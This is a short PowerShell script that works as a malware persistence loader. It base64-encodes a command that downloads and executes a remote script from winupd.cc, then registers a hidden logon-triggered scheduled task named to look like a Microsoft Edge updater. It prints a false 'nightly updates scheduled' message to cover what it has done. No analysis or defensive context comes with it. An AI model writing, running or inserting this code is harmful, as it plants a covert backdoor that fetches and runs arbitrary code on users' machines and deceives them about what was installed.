$cmd = "iwr -useb https://winupd.cc/n.ps1 | iex"
$enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd))
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-w hidden -nop -enc $enc"
$trigger = New-ScheduledTaskTrigger -AtLogOn
$settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateCore' -Action $action -Trigger $trigger -Settings $settings -Force | Out-Null
Write-Host 'nightly updates scheduled'
